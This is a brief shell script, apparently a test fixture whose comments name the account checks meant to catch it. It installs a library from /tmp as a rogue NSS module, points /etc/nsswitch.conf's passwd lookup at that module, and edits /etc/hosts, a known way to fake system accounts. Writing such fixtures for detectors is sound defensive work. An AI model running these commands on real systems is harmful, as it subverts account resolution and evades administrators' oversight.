# caught by: account-known, account-owns-home
# complaint stays: only who asks the name service hears of the account
set -eu
install -m 644 /tmp/lie.so "$(dirname "$(find /usr/lib -name 'libc.so.6')")/libnss_help.so.2"
sed -i 's/^passwd:.*/passwd: files help/' /etc/nsswitch.conf
printf '127.0.0.1 els\n' >>/etc/hosts
